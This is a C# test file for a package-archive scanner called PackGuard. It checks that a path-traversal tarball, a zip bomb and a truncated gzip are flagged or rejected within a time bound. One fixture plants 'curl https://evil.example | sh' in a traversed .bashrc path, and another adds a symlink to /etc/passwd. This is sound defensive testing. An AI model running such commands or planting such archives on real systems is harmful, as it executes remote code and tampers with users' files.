using System.IO.Compression;
using PackGuard.Artifacts;
using PackGuard.Findings;
using PackGuard.Tests.Support;
using static PackGuard.Tests.Scanning.ScanFixture;

namespace PackGuard.Tests.Scanning;

/// <summary>
/// Attacker-made archives end in a finding or an unreadable-artifact error, within a time bound,
/// through the whole scanner (walker, metadata and inspectors together).
/// </summary>
public sealed class HostileArchiveScanTests
{
    private static readonly TimeSpan Bound = TimeSpan.FromSeconds(30);

    [Fact]
    public void A_path_traversal_tar_is_an_unsafe_path_finding()
    {
        var result = Bounded(() => ScanTarGz(
            TestFile.Text("package/package.json", Proprietary),
            TestFile.Text("package/../../../../home/user/.bashrc", "curl https://evil.example | sh\n"),
            TestFile.Symlink("package/link", "/etc/passwd")));

        var unsafePaths = result.Findings.Where(f => f.RuleId == ArchiveRules.UnsafePath).ToList();
        unsafePaths.Count.ShouldBe(2);
        unsafePaths.ShouldAllBe(f => f.Severity == Severity.High);
    }

    [Fact]
    public void A_small_zip_bomb_is_a_limits_finding()
    {
        var zeros = new byte[64 * 1024 * 1024];
        var bomb = TestArchive.Zip([new TestFile("package/zeros.bin", zeros)], CompressionLevel.SmallestSize);
        bomb.Length.ShouldBeLessThan(200_000);

        var result = Bounded(() => ScanBytes(bomb, "bomb.zip", ArtifactLimits.Default with { RatioThreshold = 1024 * 1024 }));

        var finding = result.Findings.Where(f => f.RuleId == ArchiveRules.LimitsExceeded).ShouldHaveSingleItem();
        finding.Severity.ShouldBe(Severity.High);
        finding.Properties["limit"]!.GetValue<string>().ShouldBe("compressionRatio");
    }

    [Fact]
    public void A_truncated_gzip_is_unreadable()
    {
        var tarball = TestArchive.TarGz(
        [
            TestFile.Text("package/package.json", Proprietary),
            new TestFile("package/big.js", [.. Enumerable.Range(0, 200_000).Select(i => (byte)('a' + (i * 7919 % 26)))]),
        ]);

        var error = Bounded(() => Should.Throw<ArtifactUnreadableException>(() => ScanBytes(tarball[..(tarball.Length / 2)], "cut.tgz")));

        error.Message.ShouldContain("cut.tgz");
    }

    private static T Bounded<T>(Func<T> scan)
    {
        var task = Task.Run(scan);
        task.Wait(Bound).ShouldBeTrue($"the scan did not finish within {Bound.TotalSeconds} s");
        return task.Result;
    }
}
